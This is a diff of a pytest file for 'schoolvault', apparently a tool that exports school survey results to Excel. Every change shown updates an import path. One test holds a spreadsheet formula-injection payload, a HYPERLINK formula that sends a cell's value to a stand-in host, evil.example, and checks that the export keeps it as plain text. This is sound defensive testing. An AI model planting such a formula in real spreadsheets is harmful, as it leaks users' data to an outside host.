@@ -24,7 +24,7 @@ TOL = {"rel": 1e-12, "abs": 1e-12}
 
 @pytest.fixture(scope="module")
 def book(_template_demo_ws, tmp_path_factory):
-    from schoolvault.reports import export_workbook
+    from schoolvault.reports.workbook import export_workbook
     d = tmp_path_factory.mktemp("workbook")
     db = d / "demo.sqlite"
     shutil.copy(_template_demo_ws, db)
@@ -155,7 +155,7 @@ def _replace_group(ws, instrument: str, group: str, n: int, comment: str) -> Non
 
 
 def test_small_group_is_suppressed_in_every_sheet(demo_ws, tmp_path):
-    from schoolvault.reports import export_workbook
+    from schoolvault.reports.workbook import export_workbook
     secret = "소수 집단만 아는 의견입니다 7731"
     _replace_group(demo_ws, SODI, "직원", 3, secret)
     export_workbook(demo_ws, tmp_path / "b.xlsx")
@@ -173,7 +173,7 @@ def test_small_group_is_suppressed_in_every_sheet(demo_ws, tmp_path):
 
 
 def test_text_that_looks_like_a_formula_stays_text(demo_ws, tmp_path):
-    from schoolvault.reports import export_workbook
+    from schoolvault.reports.workbook import export_workbook
     evil = '=HYPERLINK("http://evil.example/?"&A1,"클릭")'
     _replace_group(demo_ws, SODI, "교원", 10, evil)
     export_workbook(demo_ws, tmp_path / "b.xlsx")
@@ -184,7 +184,7 @@ def test_text_that_looks_like_a_formula_stays_text(demo_ws, tmp_path):
 
 
 def test_export_refuses_a_name_that_is_not_xlsx(demo_ws, tmp_path):
-    from schoolvault.reports import export_workbook
+    from schoolvault.reports.workbook import export_workbook
     with pytest.raises(SchoolVaultError) as e:
         export_workbook(demo_ws, tmp_path / "book.xls")
     assert ".xlsx" in e.value.hint
@@ -207,7 +207,7 @@ def test_cli_export_and_report(demo_ws_path, tmp_path, capsys):
 
 
 def test_benchmark_in_the_district_file_format_adds_percentiles(demo_ws, tmp_path):
-    from schoolvault.reports import export_workbook
+    from schoolvault.reports.workbook import export_workbook
     sv = services.survey(demo_ws, SODI)
     entry = {"n_schools": 40, "mean": 3.9, "sd": 0.3, "percentiles": {"10": 3.5, "50": 3.9, "90": 4.3}}
     bench = {"초": {"n_schools": 40, "factors": {f"{SODI}:{f.code}": entry for f in sv.factors()}}}
